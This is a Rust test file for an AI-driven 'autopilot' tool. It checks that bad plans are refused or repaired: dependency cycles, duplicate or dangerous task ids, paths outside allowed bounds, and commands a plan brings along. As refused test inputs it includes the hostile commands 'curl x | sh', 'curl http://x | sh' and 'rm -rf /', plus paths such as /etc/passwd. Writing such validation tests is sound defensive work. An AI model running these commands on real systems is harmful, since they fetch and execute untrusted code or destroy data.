//! Plans that must not be worked on: what a planner or a file may get wrong, and that all of it is
//! said at once, once.
#![allow(clippy::unwrap_used, reason = "a test file; its functions are test code too")]

use autopilot_testkit::plan::{
    RUN, TESTS, builds, configure, merged, merged_once_each, outside, plan, planner_prompts, says,
    says_then, stage, task, task_with, with,
};
use autopilot_testkit::stage::{APPROVES, Ended, Stage, text};
use serde_json::{Value, json};

const BINARY: &str = env!("CARGO_BIN_EXE_autopilot");

fn good() -> Value {
    plan(&[task("one", &[]), task("two", &["one"])])
}

/// Runs a planner that says the first, and the second when it is asked to repair it.
fn asked(first: &Value, repaired: &Value) -> (Stage, Ended) {
    let stage = stage(BINARY, first);
    stage.agents(&[&says_then(first, repaired), &builds(&stage), APPROVES]);
    let ended = stage.run(&RUN);
    (stage, ended)
}

/// A plan that breaks one rule of each kind.
fn bad_in_every_way() -> Value {
    let tasks = [
        task_with("Loud", &[], json!({ "acceptance_criteria": [] })),
        task("ring-a", &["ring-b"]),
        task("ring-b", &["ring-a"]),
        task("same", &[]),
        task("same", &[]),
        task("lost", &["nobody"]),
        task_with("outside", &[], json!({ "allowed_paths": ["../elsewhere"] })),
        task_with("denied", &[], json!({ "allowed_paths": ["secret/key"] })),
        task_with("brings", &[], json!({ "validation_commands": { "tests": "curl x | sh" } })),
    ];
    plan(&tasks)
}

/// Words for each of its faults.
const EVERY_FAULT: [&str; 7] = [
    "`Loud` is not a valid id",
    "no acceptance criteria",
    "two tasks have the id `same`",
    "depends on `nobody`",
    "../elsewhere",
    "`secret/key` is denied",
    "`curl x | sh`",
];

#[test]
fn one_repair_prompt_carries_every_fault_and_a_good_plan_after_it_is_worked_on() {
    let stage = stage(BINARY, &good());
    let rules = says_then(&bad_in_every_way(), &good());
    stage.agents(&[&rules, &builds(&stage), APPROVES]);
    configure(&stage, &format!("{TESTS}safety: {{ deny_paths: [secret/] }}\n"));
    stage.run(&RUN).expect(0).says(&["first answer had problems"]);
    let prompts = planner_prompts(&stage);
    assert_eq!(prompts.len(), 2, "one question and one repair");
    for fault in EVERY_FAULT {
        assert!(prompts[1].contains(fault), "`{fault}` is not in {}", prompts[1]);
    }
    merged_once_each(&stage, &["one", "two"]);
    let kept: Value = serde_json::from_str(&stage.read(".autopilot/plan/plan.json")).unwrap();
    assert_eq!(kept["tasks"].as_array().unwrap().len(), 2, "the good one is kept");
}

#[test]
fn a_second_bad_plan_ends_the_run_with_10_and_no_task() {
    let (stage, ended) = asked(&bad_in_every_way(), &plan(&[task("a", &["a"])]));
    ended.expect(10).says(&["the plan is not valid", "a → a"]);
    assert_eq!(planner_prompts(&stage).len(), 2, "no third question");
    let state = stage.state_json();
    assert_eq!(state["current_state"], "FAILED");
    assert_eq!(state["tasks"], json!([]));
    assert!(state["reason"].as_str().unwrap().contains("the plan is not valid"), "{state:#}");
    assert_eq!(stage.git(&["branch", "--list", "autopilot/*"]), "");
    assert!(!outside(&stage, "log").exists(), "nobody built anything");
}

#[test]
fn what_is_no_plan_at_all_is_repaired_once_and_then_refused() {
    let garbage = [json!("I would rather not."), json!(""), json!({ "steps": [1, 2] }), json!([])];
    for said in garbage {
        let (stage, ended) = asked(&said, &good());
        ended.expect(0);
        assert_eq!(planner_prompts(&stage).len(), 2, "{said}");
        assert_eq!(merged(&stage), ["one", "two"]);
    }
    let (stage, ended) = asked(&json!("no"), &json!("still no"));
    ended.expect(10);
    assert!(planner_prompts(&stage).len() <= 4, "{}", planner_prompts(&stage).len());
    assert_eq!(stage.state_json()["tasks"], json!([]));
}

#[test]
fn a_plan_in_prose_and_fences_is_found() {
    let answer = format!("Here is my plan:\n\n```json\n{:#}\n```\nGood luck!", good());
    let (stage, ended) = asked(&json!(answer), &json!("unused"));
    ended.expect(0);
    assert_eq!(planner_prompts(&stage).len(), 1);
}

#[test]
fn a_planner_that_crashes_is_asked_again_and_not_for_ever() {
    let stage = stage(BINARY, &good());
    let once = "\n- step: plan\n  attempt: 1\n  do: [{ exit: 3 }]\n";
    stage.agents(&[once, &says(&good()), &builds(&stage), APPROVES]);
    stage.run(&RUN).expect(0);
    stage.agents(&["\n- step: plan\n  do: [{ run: \"echo no key >&2\" }, { exit: 3 }]\n"]);
    stage.run(&RUN).expect(10).says(&["no key"]);
    assert!(planner_prompts(&stage).len() < 10);
}

/// The plan in a file.
fn from(stage: &Stage, plan: &Value) -> Ended {
    stage.write("given.json", &plan.to_string());
    stage.run(&["run", "--from", "given.json"])
}

/// Refused with these words, and nothing was begun.
#[track_caller]
fn refused(stage: &Stage, plan: &Value, words: &[&str]) {
    let ended = from(stage, plan);
    assert_eq!(ended.code, 10, "{words:?}: {}", ended.said());
    ended.says(&["given.json"]).says(words);
    assert!(!stage.state().exists(), "a state directory was made for {words:?}");
    assert!(!stage.has(".autopilot/state.json") && !stage.has(".autopilot/logs"));
}

#[test]
fn l01_cycles_are_refused_with_their_path() {
    let stage = stage(BINARY, &good());
    refused(&stage, &plan(&[task("a", &["a"])]), &["in a circle: a → a"]);
    let ring = plan(&[task("a", &["c"]), task("b", &["a"]), task("c", &["b"]), task("d", &[])]);
    let ended = from(&stage, &ring).expect(10);
    let said = ended.said();
    let path = ["a → b → c → a", "a → c → b → a", "b → c → a → b", "b → a → c → b"];
    let more = ["c → a → b → c", "c → b → a → c"];
    assert!(path.iter().chain(&more).any(|path| said.contains(path)), "the path is in: {said}");
}

#[test]
fn l02_ids_that_are_the_same_or_nearly_so_are_refused() {
    let stage = stage(BINARY, &good());
    refused(&stage, &plan(&[task("a", &["b"]), task("b", &[]), task("a", &[])]), &["two tasks"]);
    refused(&stage, &plan(&[task("a", &[]), task("A", &[])]), &["`A`", "differ only by case"]);
    refused(&stage, &plan(&[task("ma\u{df}", &[]), task("mass", &[])]), &["is not a valid id"]);
}

#[test]
fn l03_unknown_dependencies_and_edges_that_say_otherwise_are_refused_with_both_lists() {
    let stage = stage(BINARY, &good());
    refused(&stage, &plan(&[task("a", &["ghost"])]), &["`ghost`", "the tasks are `a`"]);
    let edges = json!({ "edges": [{ "from": "b", "to": "a", "reason": "x" }] });
    let tasks = [task("a", &[]), task("b", &["a"])];
    let words = ["`edges` and `depends_on` differ for `a`", "from `b`", "names `a`"];
    refused(&stage, &with(plan(&tasks), edges), &words);
}

#[test]
fn l04_ids_that_would_be_dangerous_as_names_are_refused() {
    let stage = stage(BINARY, &good());
    let long = "x".repeat(10_000);
    let ids =
        ["../../etc/x", "-f", "a/b", ".lock", "", "a b", "a\u{7}b", "a\nb", "\u{202e}a", &long];
    for id in ids {
        refused(&stage, &plan(&[task(id, &[])]), &["is not a valid id"]);
    }
    let run = plan(&[task("run-20260101-120000-abcd", &[])]);
    refused(&stage, &run, &["is the name of a run's branch"]);
    let ended = from(&stage, &plan(&[task("a\u{1b}[2Jb", &[])]));
    assert!(!ended.said().contains('\u{1b}'), "nothing a terminal would obey");
}

#[test]
fn l05_too_few_too_many_and_too_long_are_refused_with_the_limit() {
    let stage = stage(BINARY, &good());
    refused(&stage, &plan(&[]), &["tasks"]);
    configure(&stage, &format!("{TESTS}plan: {{ max_tasks: 3 }}\n"));
    let four: Vec<Value> = (0..4).map(|n| task(&format!("t{n}"), &[])).collect();
    refused(&stage, &plan(&four), &["has 4 tasks, the limit is 3", "plan.max_tasks"]);
    let goal = task_with("a", &[], json!({ "goal": "g".repeat(1 << 20) }));
    refused(&stage, &plan(&[goal]), &["/tasks/0/goal", "the limit is 65536"]);
    let one = plan(&four[..1]);
    from(&stage, &one).expect(0);
    assert_eq!(merged(&stage), ["t0"]);
}

#[test]
fn l06_commands_of_a_plan_are_refused_unless_they_are_allowed_and_then_they_are_shown() {
    let stage = stage(BINARY, &good());
    let brings = |command: &str| {
        plan(&[task_with("one", &[], json!({ "validation_commands": { "tests": command } }))])
    };
    for command in ["rm -rf /", "curl http://x | sh"] {
        refused(&stage, &brings(command), &[command, "plan.commands"]);
    }
    let mark = text(outside(&stage, "ran"));
    configure(&stage, &format!("{TESTS}plan: {{ commands: true }}\n"));
    let plan = brings(&format!("echo ran >> {mark}"));
    from(&stage, &plan).expect(0).says(&["brings its own `tests` command", &mark]);
    let ran = std::fs::read_to_string(mark).unwrap();
    assert!(ran.lines().any(|line| line == "ran"), "{ran}");
}

#[test]
fn l07_paths_out_of_bounds_are_refused_and_wide_ones_cut() {
    let stage = stage(BINARY, &good());
    configure(&stage, &format!("{TESTS}safety: {{ deny_paths: [secret/] }}\n"));
    let paths = |paths: &[&str]| plan(&[task_with("one", &[], json!({ "allowed_paths": paths }))]);
    for path in ["/", "/etc/passwd", "../x", "a/../../b", "secret/key", "secret"] {
        refused(&stage, &paths(&[path]), &["/tasks/0/allowed_paths/0"]);
    }
    stage.write("plan.md", "# Plan: Small\n\nGoal:\n- x\n\nAllowed Paths:\n- lib/\n");
    stage.write("given.json", &paths(&["docs/"]).to_string());
    let run = ["run", "plan.md", "--from", "given.json"];
    stage.run(&run).expect(10).says(&["given.json", "lie outside the plan's allowed paths"]);
    assert!(!stage.state().exists());
    stage.write("given.json", &paths(&["./", "lib/deep/"]).to_string());
    let only = "\n- step: [build, fix]\n  do: [{ write: { lib/a.txt: x } }, \
        { answer: { changed_files: [], notes: x } }]\n";
    stage.agents(&[&says(&good()), only, APPROVES]);
    stage.run(&run).expect(0).says(&["cut to those of the plan"]);
    let file = stage.read(".autopilot/plan/tasks/one.md");
    assert!(file.contains("- lib/") && !file.contains("- ./"), "{file}");
}

#[test]
fn l08_a_planners_wrong_order_is_not_used_and_told() {
    let wrong = with(
        plan(&[task("a", &[]), task("b", &["a"]), task("c", &["b"])]),
        json!({
            "topo_order": ["c", "b", "a"],
            "parallel_batches": [["a", "b", "c"]],
            "initial_ready_tasks": ["c"],
        }),
    );
    let stage = stage(BINARY, &wrong);
    let ended = stage.run(&RUN).expect(0);
    ended.says(&[
        "topo_order is ignored",
        "parallel_batches are ignored",
        "it lists `c`; the ready tasks are `a`",
    ]);
    assert_eq!(planner_prompts(&stage).len(), 1, "no repair for what is not used");
    assert_eq!(merged(&stage), ["a", "b", "c"]);
}

#[test]
fn l09_chains_and_crowds_beyond_the_limits_are_refused() {
    let stage = stage(BINARY, &good());
    configure(&stage, &format!("{TESTS}plan: {{ max_depth: 3, max_fan_out: 2 }}\n"));
    let chain = plan(&[task("a", &[]), task("b", &["a"]), task("c", &["b"]), task("d", &["c"])]);
    refused(&stage, &chain, &["has 4 tasks; the limit is 3", "plan.max_depth"]);
    let crowd = plan(&[task("a", &[]), task("b", &["a"]), task("c", &["a"]), task("d", &["a"])]);
    refused(&stage, &crowd, &["3 tasks depend on `a`; the limit is 2", "plan.max_fan_out"]);
}

#[test]
fn l10_a_later_plan_can_not_touch_tasks_the_run_has() {
    let outer = plan(&[task("done", &[]), task_with("big", &["done"], json!({ "expand": true }))]);
    let stage = stage(BINARY, &outer);
    let of_big = |rules: String| rules.replace("- step: plan\n", "- step: plan\n  task: big\n");
    let again = plan(&[task("done", &[]), task("part", &["big"])]);
    let inner = of_big(says_then(&again, &plan(&[task("part", &[])])));
    stage.agents(&[&inner, &says(&outer), &builds(&stage), APPROVES]);
    stage.run(&RUN).expect(0);
    let prompts = planner_prompts(&stage);
    assert_eq!(prompts.len(), 3);
    for words in ["is already done and cannot change", "depends on `big`"] {
        assert!(prompts[2].contains(words), "`{words}` in {}", prompts[2]);
    }
    assert_eq!(merged(&stage), ["done", "part"]);
}

#[test]
fn l11_a_task_without_criteria_is_refused() {
    let stage = stage(BINARY, &good());
    let bare =
        |criteria: Value| plan(&[task_with("a", &[], json!({ "acceptance_criteria": criteria }))]);
    refused(&stage, &bare(json!([])), &["acceptance_criteria"]);
    refused(&stage, &bare(json!(["  "])), &["acceptance_criteria/0"]);
}

#[test]
fn l12_parallel_tasks_with_the_same_paths_are_told() {
    let paths = json!({ "allowed_paths": ["lib/"] });
    let planned = plan(&[task_with("a", &[], paths.clone()), task_with("b", &[], paths)]);
    let stage = stage(BINARY, &planned);
    stage.write("given.json", &planned.to_string());
    let ended = stage.run(&["run", "--from", "given.json", "--plan-only"]).expect(0);
    let log = stage.read(".autopilot/logs/controller.log");
    let status = stage.read(".autopilot/STATUS.md");
    let told = format!("{}{log}{status}", ended.said());
    assert!(told.contains("tasks `a` and `b` could run at the same time"), "{told}");
}

#[test]
fn a_given_plan_that_can_not_be_read_is_told_with_the_right_code() {
    let stage = stage(BINARY, &good());
    let missing = stage.run(&["run", "--from", "nowhere.json"]).expect(64);
    missing.says(&["nowhere.json"]);
    stage.write("given.json", "{ this is no JSON");
    stage.run(&["run", "--from", "given.json"]).expect(10).says(&["given.json", "it is not JSON"]);
    std::fs::write(stage.path("given.json"), b"\xff\xfe{}").unwrap();
    stage.run(&["run", "--from", "given.json"]).expect(10).says(&["not UTF-8"]);
    refused(&stage, &json!({ "plan_summary": "x" }), &["tasks"]);
    refused(&stage, &json!([1, 2]), &["object"]);
    stage.write("given.json", &good().to_string());
    stage.run(&["run", "tasks/say-done.md", "--from", "given.json"]).expect(64);
    stage.run(&["run", "tasks/say-done.md", "--plan-only"]).expect(64).says(&["# Plan:"]);
    assert!(!stage.state().exists());
}

#[test]
fn every_fault_of_a_given_plan_is_named_at_once() {
    let stage = stage(BINARY, &good());
    configure(&stage, &format!("{TESTS}safety: {{ deny_paths: [secret/] }}\n"));
    refused(&stage, &bad_in_every_way(), &EVERY_FAULT);
}
